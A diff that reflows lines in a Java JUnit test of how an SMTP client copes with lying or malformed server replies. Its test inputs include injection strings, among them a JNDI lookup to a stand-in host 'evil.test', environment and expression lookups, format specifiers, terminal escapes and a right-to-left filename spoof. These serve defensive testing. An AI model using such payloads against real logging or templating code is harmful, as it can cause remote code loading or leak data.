@@ -20,7 +20,10 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-/** Servers that lie, babble or break the rules: the outcome stays true, the connection is given up, memory stays bounded. */
+/**
+ * Servers that lie, babble or break the rules: the outcome stays true, the connection is given up, memory stays
+ * bounded.
+ */
 class HostileReplyTest {
 
     private static final String[] STEPS = { "", "EHLO", "MAIL", "RCPT", "DATA", "." };
@@ -40,9 +43,12 @@ class HostileReplyTest {
 
     @ParameterizedTest
     @ValueSource(strings = {
-            "250 ok\n", "250-a\r\n550 b\r\n", "2500 ok\r\n", "25 ok\r\n", "250ok\r\n", "250_ok\r\n", " 250 ok\r\n", "+250 ok\r\n",
-            "\u00D9\u00A2\u00D9\u00A5\u00D9\u00A0 ok\r\n", "000 ok\r\n", "199 ok\r\n", "600 ok\r\n", "999 ok\r\n", "\r\n", "ok\r\n",
-            "HTTP/1.1 200 OK\r\n\r\n", "SSH-2.0-OpenSSH_9\r\n", "* OK IMAP4rev1\r\n", "\u0015\u0003\u0001\u0000\u0002\u0002\u0028\r\n",
+            "250 ok\n", "250-a\r\n550 b\r\n", "2500 ok\r\n", "25 ok\r\n", "250ok\r\n", "250_ok\r\n", " 250 ok\r\n",
+            "+250 ok\r\n",
+            "\u00D9\u00A2\u00D9\u00A5\u00D9\u00A0 ok\r\n", "000 ok\r\n", "199 ok\r\n", "600 ok\r\n", "999 ok\r\n", "\r\n",
+            "ok\r\n",
+            "HTTP/1.1 200 OK\r\n\r\n", "SSH-2.0-OpenSSH_9\r\n", "* OK IMAP4rev1\r\n",
+            "\u0015\u0003\u0001\u0000\u0002\u0002\u0028\r\n",
             "250-a\r\n250 b\n", "250 a\rb\n" })
     void whatIsNoReplyEndsTheConnectionAtEveryStep(String rubbish) throws Exception {
         for (String step : STEPS) {
@@ -71,7 +77,8 @@ class HostileReplyTest {
 
     @ParameterizedTest
     @CsvSource({
-            "'',250", "'',235", "'',334", "'',354", "EHLO,220", "EHLO,334", "EHLO,354", "MAIL,354", "MAIL,334", "RCPT,354", "RCPT,334",
+            "'',250", "'',235", "'',334", "'',354", "EHLO,220", "EHLO,334", "EHLO,354", "MAIL,354", "MAIL,334", "RCPT,354",
+            "RCPT,334",
             "DATA,250", "DATA,235", "DATA,220", "DATA,334" })
     void aReplyOfTheWrongKindEndsTheConnection(String command, int code) throws Exception {
         try (ScriptedServer server = at(command, code + " well\r\n"); MailRoute route = new MailRoute(server, "")) {
@@ -94,7 +101,8 @@ class HostileReplyTest {
 
     @Test
     void anAcceptanceBeforeTheMessageIsNotBelieved() throws Exception {
-        try (ScriptedServer server = at("DATA", "354 go\r\n250 queued as 42\r\n"); MailRoute route = new MailRoute(server, "")) {
+        try (ScriptedServer server = at("DATA", "354 go\r\n250 queued as 42\r\n");
+             MailRoute route = new MailRoute(server, "")) {
             route.send("hello");
             route.failed(route.outcome().stage());
             server.settle();
@@ -114,7 +122,8 @@ class HostileReplyTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "250\r\n", "250 \r\n", "251 will forward\r\n", "252 try\r\n", "254 well\r\n", "250-a\r\n250\r\n",
+    @ValueSource(strings = {
+            "250\r\n", "250 \r\n", "251 will forward\r\n", "252 try\r\n", "254 well\r\n", "250-a\r\n250\r\n",
             "250 5.1.1 no\r\n" })
     void anAcceptanceInAnyWordsIsOne(String reply) throws Exception {
         try (ScriptedServer server = at("RCPT", reply); MailRoute route = new MailRoute(server, "")) {
@@ -151,7 +160,8 @@ class HostileReplyTest {
             try (ScriptedServer server = new ScriptedServer(session -> endless(session, command, piece, taken));
                  MailRoute route = new MailRoute(server, "")) {
                 route.send("hello");
-                assertThat(route.last().getException()).isInstanceOf(SmtpxException.class).hasMessageContaining("no SMTP reply");
+                assertThat(route.last().getException()).isInstanceOf(SmtpxException.class)
+                        .hasMessageContaining("no SMTP reply");
                 assertThat(route.outcome().delivered()).isEmpty();
                 server.settle();
                 // What the sockets of both ends hold, and not much more
@@ -217,7 +227,8 @@ class HostileReplyTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "550 5.7.1 \u001b[31mred\u001b[0m\u0007", "550 ${jndi:ldap://evil.test/x} ${body} %s {} %n",
+    @ValueSource(strings = {
+            "550 5.7.1 \u001b[31mred\u001b[0m\u0007", "550 ${jndi:ldap://evil.test/x} ${body} %s {} %n",
             "550 ${sysenv:HOME} #{1+1} $simple{header.x}", "550 \u00E2\u0080\u00AEtxt.exe", "550 \u00FF\u00FE\u0080",
             "550 a\u0000b\tc", "550 a\u007Fb\u0085c" })
     void whatAServerSaysIsPrintableAndNeverEvaluated(String reply) throws Exception {
@@ -230,7 +241,7 @@ class HostileReplyTest {
                     route.last().getMessage().getHeader(SmtpxConstants.REFUSED).toString(), route.outcome().toString());
             assertThat(shown).allSatisfy(text -> {
                 assertThat(text.codePoints()).noneMatch(c -> Character.getType(c) == Character.CONTROL && c != '\t'
-                                                             || Character.getType(c) == Character.FORMAT);
+                        || Character.getType(c) == Character.FORMAT);
                 if (reply.contains("$")) {
                     assertThat(text).contains(reply.substring(4));
                 }
